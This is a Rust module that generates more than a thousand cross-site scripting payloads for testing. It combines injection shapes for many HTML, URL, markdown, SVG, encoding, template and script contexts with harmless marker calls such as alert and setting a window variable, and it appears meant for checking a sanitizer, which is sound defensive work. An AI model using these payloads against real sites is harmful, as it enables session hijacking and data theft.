//! Texts that run where a page prints them without care: shapes that get out of the place in which they stand, each with every
//! way of calling. A text that runs leaves a mark that a test can see.

/// What stands in a shape where the code goes.
const CODE: &str = "CODE";
/// What stands in a way of calling where the number of the text goes.
const NUMBER: &str = "NUMBER";

/// Ways of leaving a mark: a name of the window, of the document, a request, a dialog.
const CALLS: &[&str] = &[
    "window.midadRan=NUMBER",
    "top.midadRan=NUMBER",
    "self['midadRan']=NUMBER",
    "globalThis[\"midadRan\"]=NUMBER",
    "document.documentElement.dataset.midadRan=NUMBER",
    "alert(NUMBER)",
    "fetch('/xss-ran/NUMBER')",
    "import('/xss-ran/NUMBER')",
    "alert`NUMBER`",
    "Function('window.midadRan=NUMBER')()",
    "setTimeout('window.midadRan=NUMBER')",
    "new Image().src='/xss-ran/NUMBER'",
];

/// Where a text may stand, and shapes that get out of there.
struct Place {
    name: &'static str,
    shapes: &'static [&'static str],
}

const PLACES: &[Place] = &[
    Place {
        name: "text",
        shapes: &[
            "<script>CODE</script>",
            "<img src=x onerror=CODE>",
            "<svg onload=CODE>",
            "<ScRiPt >CODE</sCrIpT >",
            "<script/x>CODE</script\n>",
            "<img/src=x/onerror=CODE//",
            "<<script>CODE//<</script>",
            "<scr<script>ipt>CODE</scr</script>ipt>",
        ],
    },
    Place {
        name: "attribute in double quotes",
        shapes: &[
            "\"><script>CODE</script>",
            "\"><img src=x onerror=CODE>",
            "\" autofocus onfocus=\"CODE",
            "\" onmouseover=\"CODE\" x=\"",
            "\\\" onfocus=CODE autofocus x=\\\"",
        ],
    },
    Place {
        name: "attribute in single quotes",
        shapes: &[
            "'><script>CODE</script>",
            "'><svg onload=CODE>",
            "' autofocus onfocus='CODE",
            "' onpointerenter=CODE x='",
        ],
    },
    Place {
        name: "attribute without quotes",
        shapes: &[
            "x onfocus=CODE autofocus tabindex=1",
            "x/onmouseenter=CODE",
            "x><img src=x onerror=CODE>",
            "`onfocus=CODE autofocus `",
        ],
    },
    Place {
        name: "end of an element of plain text",
        shapes: &[
            "</textarea><script>CODE</script>",
            "</title><svg onload=CODE>",
            "</style><img src=x onerror=CODE>",
            "</script><script>CODE</script>",
            "</noscript><img src=x onerror=CODE>",
            "</xmp></iframe></noembed><script>CODE</script>",
            "</option></select><img src=x onerror=CODE>",
        ],
    },
    Place {
        name: "comment",
        shapes: &[
            "--><script>CODE</script>",
            "--!><img src=x onerror=CODE>",
            "<!--><img src=x onerror=CODE>-->",
            "<![CDATA[><svg onload=CODE>]]>",
        ],
    },
    Place {
        name: "address",
        shapes: &[
            "javascript:CODE",
            "JaVaScRiPt:CODE",
            "java\tscript:CODE",
            "\u{1}javascript:CODE",
            "javascript&colon;CODE",
            "&#106;avascript&#x3a;CODE",
            "javascript://%0aCODE",
            "javascript:'<script>CODE</script>'",
            "data:text/html,<script>CODE</script>",
            "vbscript:CODE",
        ],
    },
    Place {
        name: "marks of text",
        shapes: &[
            "[words](javascript:CODE)",
            "[words](JAVASCRIPT&#58;CODE)",
            "![words](x\" onerror=\"CODE)",
            "![words](javascript:CODE)",
            "<javascript:CODE>",
            "[words]: javascript:CODE \"words\"",
            "[words](https://harbour.example/\"onmouseover=\"CODE)",
            "https://harbour.example/\"onfocus=\"CODE\"autofocus=\"",
        ],
    },
    Place {
        name: "drawing and formula",
        shapes: &[
            "<svg><script>CODE</script></svg>",
            "<svg><animate onbegin=CODE attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:CODE\"><text y=20>words</text></a></svg>",
            "<svg><set attributeName=href to=javascript:CODE>",
            "<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>",
            "<math><mtext></mtext><a xlink:href=\"javascript:CODE\">words</a></math>",
            "<math href=\"javascript:CODE\">words</math>",
        ],
    },
    Place {
        name: "written signs",
        shapes: &[
            "&lt;script&gt;CODE&lt;/script&gt;",
            "&#60;img src=x onerror=CODE&#62;",
            "&#x3c;svg onload=CODE&#x3e;",
            "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
            "%3Cscript%3ECODE%3C/script%3E",
            "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
            "\\x3cimg src=x onerror=CODE\\x3e",
            "+ADw-script+AD4-CODE+ADw-/script+AD4-",
        ],
    },
    Place {
        name: "signs that nobody sees",
        shapes: &[
            "<s\u{200b}cript>CODE</script><img src=x onerror=CODE>",
            "\u{202e}<img src=x onerror=CODE>\u{202c}",
            "\u{2067}\"><svg onload=CODE>\u{2069}",
            "م\u{640}ر<img src=x on\u{640}error=x onerror=CODE>",
            "\u{feff}<script>CODE</script>",
            "\u{ff1c}script\u{ff1e}CODE\u{ff1c}/script\u{ff1e}",
            "\u{2039}img src=x onerror=CODE\u{203a}",
            "<img\u{c}src=x\u{c}onerror=CODE>",
        ],
    },
    Place {
        name: "text that is read twice",
        shapes: &[
            "<noscript><p title=\"</noscript><img src=x onerror=CODE>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=CODE>\">",
            "<svg></p><style><a id=\"</style><img src=x onerror=CODE>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>",
            "<template><script>CODE</script></template><img src=x onerror=CODE>",
            "<select><template><style></select><img src=x onerror=CODE>",
        ],
    },
    Place {
        name: "template",
        shapes: &[
            "{{constructor.constructor(\"CODE\")()}}",
            "${CODE}",
            "`${CODE}`",
            "<%= CODE %>",
            "#{CODE}",
            "{% raw %}{{ \"<script>CODE</script>\"|safe }}{% endraw %}",
        ],
    },
    Place {
        name: "script and JSON",
        shapes: &[
            "\";CODE;//",
            "';CODE;//",
            "\\\";CODE;//",
            "\"}]}</script><script>CODE</script>",
            "\u{2028}CODE//",
            ");CODE;(",
            "*/CODE/*",
            "</script/x><svg onload=CODE>",
        ],
    },
    Place {
        name: "frame",
        shapes: &[
            "<iframe srcdoc=\"<script>CODE</script>\"></iframe>",
            "<iframe srcdoc=\"&lt;img src=x onerror=CODE&gt;\"></iframe>",
            "<iframe src=\"javascript:CODE\"></iframe>",
            "<object data=\"javascript:CODE\"></object>",
            "<embed src=\"javascript:CODE\">",
        ],
    },
    Place {
        name: "style",
        shapes: &[
            "<div style=\"width:expression(CODE)\">words</div>",
            "<div style=\"background:url(javascript:CODE)\">words</div>",
            "<style>@keyframes x{}</style><b style=\"animation:x 1s\" onanimationstart=\"CODE\">words</b>",
            "<link rel=stylesheet href=\"javascript:CODE\">",
            "}</style><script>CODE</script>",
        ],
    },
    Place {
        name: "handlers",
        shapes: &[
            "<details open ontoggle=CODE>words</details>",
            "<input autofocus onfocus=CODE>",
            "<video><source onerror=CODE></video>",
            "<audio src=x onerror=CODE></audio>",
            "<body onload=CODE>",
            "<body onpageshow=CODE>",
            "<marquee onstart=CODE>words</marquee>",
            "<b contenteditable autofocus onfocus=CODE>words</b>",
        ],
    },
    Place {
        name: "the page's own ways",
        shapes: &[
            "<base href=\"javascript:CODE//\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:CODE\">",
            "<form action=\"javascript:CODE\"><button autofocus>words</button></form>",
            "<button formaction=\"javascript:CODE\">words</button>",
            "<a href=\"javascript:CODE\" autofocus>words</a>",
        ],
    },
];

/// A text, and what it is made of.
#[derive(Debug, Clone)]
pub struct Payload {
    /// Where it would have to get out of.
    pub place: &'static str,
    /// How it would leave its mark.
    pub call: &'static str,
    /// Itself.
    pub text: String,
}

impl Payload {
    /// It is one line, with no sign that would part it.
    pub fn is_line(&self) -> bool {
        !self.text.contains(['\n', '\t', '\u{c}'])
    }
}

/// Every shape with every way of calling, each under a number of its own: always the same, in the same order.
pub fn all() -> Vec<Payload> {
    let shapes = PLACES.iter().flat_map(|place| place.shapes.iter().map(move |shape| (place.name, *shape)));
    let called = shapes.flat_map(|(place, shape)| CALLS.iter().map(move |call| (place, shape, *call)));
    let payload = |(number, (place, shape, call)): (usize, (&'static str, &'static str, &'static str))| {
        let code = call.replace(NUMBER, &(number + 1).to_string());
        Payload { place, call, text: shape.replace(CODE, &code) }
    };
    called.enumerate().map(payload).collect()
}

/// So many of them at even distances.
pub fn chosen(most: usize) -> Vec<Payload> {
    let all = all();
    let most = most.clamp(1, all.len());
    (0..most).map(|at| all[at * all.len() / most].clone()).collect()
}

#[test]
fn there_are_a_thousand_texts_and_each_is_another_one() {
    let mut texts: Vec<String> = all().into_iter().map(|payload| payload.text).collect();
    assert!(texts.len() >= 1_000, "{} texts", texts.len());
    let many = texts.len();
    texts.sort_unstable();
    texts.dedup();
    assert_eq!(texts.len(), many, "a text is there twice");
}

#[test]
fn fifty_of_them_stand_for_every_place_and_every_way_of_calling() {
    let some = chosen(50);
    for place in PLACES {
        assert!(some.iter().any(|payload| payload.place == place.name), "no text for «{}»", place.name);
    }
    for call in CALLS {
        assert!(some.iter().any(|payload| payload.call == *call), "nothing calls by {call}");
    }
}
